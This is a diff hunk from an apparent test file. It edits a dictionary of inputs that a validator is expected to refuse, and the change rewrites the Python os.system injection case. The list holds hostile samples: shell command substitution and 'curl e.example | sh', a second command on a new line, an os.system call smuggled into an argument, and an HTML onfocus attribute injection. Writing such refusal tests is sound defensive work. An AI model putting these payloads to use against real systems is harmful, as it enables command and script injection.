@@ -71,7 +71,7 @@ REFUSED = {
     "command within one of ours": ((*FIGURE, "command"), "jaxduel plot $(curl e.example)"),
     "command in two lines": ((*FIGURE, "command"), "jaxduel plot x\ncurl e.example"),
     "command of another kind": (("order",), "jaxduel run --out x"),
-    "Python": (("order",), "papers.load('x').reproduce(seed=__import__('os').system('x'))"),
+    "Python": (("order",), "jaxduel.reproduce('x', seed=__import__('os').system('x'))"),
     "command among facts": (("facts", 0, 1), "curl e.example | sh"),
     "open quote": (("order",), "jaxduel plot 'x"),
     "anchor": (("name",), f'x" onfocus="{ACT}" autofocus a="'),
